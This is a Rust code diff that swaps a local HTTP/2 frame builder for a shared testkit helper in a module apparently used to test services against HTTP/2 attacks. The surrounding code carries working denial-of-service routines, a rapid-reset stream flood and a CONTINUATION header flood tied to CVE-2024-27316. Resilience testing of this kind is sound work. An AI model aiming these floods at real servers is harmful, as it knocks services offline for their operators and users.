@@ -3,6 +3,7 @@
 use std::time::Duration;
 
 use anyhow::{Context, Result, bail, ensure};
+use testkit::h2_frame;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
@@ -56,8 +57,8 @@ pub(crate) async fn run(attack: &str, streams: u64, target: &Target) -> Result<O
 /// One honest request on stream 1, so that what the service closes later is a connection that worked.
 async fn greet(reader: &mut OwnedReadHalf, writer: &mut OwnedWriteHalf) -> Result<()> {
     writer.write_all(PREFACE).await?;
-    writer.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
-    writer.write_all(&frame(HEADERS, END_STREAM | END_HEADERS, 1, &request())).await?;
+    writer.write_all(&h2_frame(SETTINGS, 0, 0, &[])).await?;
+    writer.write_all(&h2_frame(HEADERS, END_STREAM | END_HEADERS, 1, &request())).await?;
     let answered = async {
         loop {
             let mut head = [0; 9];
@@ -86,8 +87,8 @@ async fn rapid_reset(writer: &mut OwnedWriteHalf, streams: u32) -> std::io::Resu
         let mut out = Vec::new();
         for index in batch * 100..((batch + 1) * 100).min(streams) {
             let stream = index * 2 + 3;
-            out.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &request()));
-            out.extend(frame(RST_STREAM, 0, stream, &CANCEL));
+            out.extend(h2_frame(HEADERS, END_STREAM | END_HEADERS, stream, &request()));
+            out.extend(h2_frame(RST_STREAM, 0, stream, &CANCEL));
         }
         writer.write_all(&out).await?;
     }
@@ -96,19 +97,14 @@ async fn rapid_reset(writer: &mut OwnedWriteHalf, streams: u32) -> std::io::Resu
 
 /// A head that never ends (CVE-2024-27316 class).
 async fn continuation_flood(writer: &mut OwnedWriteHalf) -> std::io::Result<()> {
-    writer.write_all(&frame(HEADERS, END_STREAM, 3, &request())).await?;
+    writer.write_all(&h2_frame(HEADERS, END_STREAM, 3, &request())).await?;
     // Literal fields without indexing: name `x`, a value of 126 bytes.
     let field = [b"\x00\x01x\x7e".as_slice(), &[b'a'; 126]].concat();
-    let flood = frame(CONTINUATION, 0, 3, &field.repeat(125));
+    let flood = h2_frame(CONTINUATION, 0, 3, &field.repeat(125));
     for _ in 0..CONTINUATIONS {
         writer.write_all(&flood).await?;
     }
     Ok(())
-}
-
-fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
-    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
-    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
 }
 
 #[cfg(test)]
@@ -117,6 +113,6 @@ mod tests {
 
     #[test]
     fn frames_have_their_length_in_front() {
-        assert_eq!(frame(RST_STREAM, 0, 3, &CANCEL), [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
+        assert_eq!(h2_frame(RST_STREAM, 0, 3, &CANCEL), [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
     }
 }
